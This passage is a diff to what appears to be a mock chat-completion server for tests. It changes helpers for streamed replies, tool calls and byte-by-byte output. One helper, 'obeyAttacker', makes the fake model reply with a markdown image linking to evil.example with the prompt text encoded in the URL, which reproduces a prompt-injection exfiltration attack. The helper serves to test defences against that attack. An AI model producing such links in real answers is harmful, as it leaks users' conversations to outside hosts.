@@ -93,26 +93,33 @@ export interface SayOptions {
   /** Milliseconds before the first byte. */
   readonly firstMs?: number
   /** Milliseconds between chunks; 0 sends all at once. */
-  readonly chunkMs?: number
+  readonly everyMs?: number
+  /** Say it again and again until the client hangs up; needs `everyMs`. */
+  readonly endless?: boolean
   /** How the text is cut. Default: in words. */
   readonly pieces?: (text: string) => readonly string[]
 }
 
 /** Says a fixed text, or one made from the request; streams it when asked to. */
 export function say(text: string | ((request: Received) => string), options: SayOptions = {}): Script {
-  const { firstMs = 0, chunkMs = 0, pieces = words } = options
+  const { firstMs = 0, everyMs = 0, endless: isEndless = false, pieces = words } = options
   return async (request, reply) => {
     const said = typeof text === 'string' ? text : text(request)
     if (firstMs > 0) await wait(firstMs)
-    if (request.body.stream !== true) return sendJson(reply, completionOf(request, { content: said }))
+    if (request.body['stream'] !== true) return sendJson(reply, completionOf(request, { content: said }))
     startStream(reply)
-    const events = streamOf(request, pieces(said))
-    if (chunkMs === 0) return void reply.end(events.join(''))
-    for (const next of events) {
-      if (reply.destroyed) return
-      reply.write(next)
-      await wait(chunkMs)
+    const cut = pieces(said)
+    const slowly = async (events: readonly string[]) => {
+      for (const next of events) {
+        if (reply.destroyed) return
+        reply.write(next)
+        await wait(everyMs)
+      }
     }
+    while (isEndless && !reply.destroyed) await slowly(cut.map((content) => event(chunkOf({ content }))))
+    const events = streamOf(request, cut)
+    if (everyMs === 0) return void reply.end(events.join(''))
+    await slowly(events)
     reply.end()
   }
 }
@@ -124,14 +131,14 @@ export const echo = (options: SayOptions = {}): Script => say(lastUserText, opti
 export const obeyAttacker = (address = 'https://evil.example/'): Script =>
   say((request) => `Klaar. ![logo](${address}?d=${encodeURIComponent(promptText(request))})`)
 
-/** Calls a tool. In a stream the arguments come in two halves. */
-export function callTool(name: string, args: JsonObject): Script {
-  const text = JSON.stringify(args)
-  const half = Math.floor(text.length / 2)
+/** Calls a tool, with fixed arguments or ones made from the last user message. In a stream they come in two halves. */
+export function toolCall(name: string, args: JsonObject | ((text: string) => JsonObject)): Script {
   const id = 'call_peer_1'
   return (request, reply) => {
+    const text = JSON.stringify(typeof args === 'function' ? args(lastUserText(request)) : args)
+    const half = Math.floor(text.length / 2)
     const call = { id, type: 'function', function: { name, arguments: text } }
-    if (request.body.stream !== true)
+    if (request.body['stream'] !== true)
       return sendJson(reply, completionOf(request, { content: null, tool_calls: [call] }, 'tool_calls'))
     startStream(reply)
     const first = { index: 0, id, type: 'function', function: { name, arguments: text.slice(0, half) } }
@@ -224,17 +231,33 @@ export const endless = (): Script => async (_request, reply) => {
   }
 }
 
-/** Sends a correct stream one byte at a time. */
-export const splitEveryByte =
-  (text: string): Script =>
+/** Sends the answer of another script one byte at a time. */
+export const splitEverywhere =
+  (script: Script): Script =>
   async (request, reply) => {
-    startStream(reply)
-    const bytes = Buffer.from(streamOf(request, words(text)).join(''))
+    const write = reply.write.bind(reply)
+    const end = reply.end.bind(reply)
+    const parts: Buffer[] = []
+    const keep = (part?: unknown) => {
+      if (typeof part === 'string' || Buffer.isBuffer(part)) parts.push(Buffer.from(part))
+      return true
+    }
+    const isComplete = new Promise<void>((resolve) => {
+      const last = (part?: unknown) => {
+        keep(part)
+        resolve()
+        return reply
+      }
+      Object.assign(reply, { write: keep, end: last })
+    })
+    await script(request, reply)
+    await isComplete
+    const bytes = Buffer.concat(parts)
     for (let i = 0; i < bytes.length && !reply.destroyed; i++) {
-      reply.write(bytes.subarray(i, i + 1))
+      write(bytes.subarray(i, i + 1))
       await turn()
     }
-    reply.end()
+    end()
   }
 
 /** Sends the client elsewhere. */
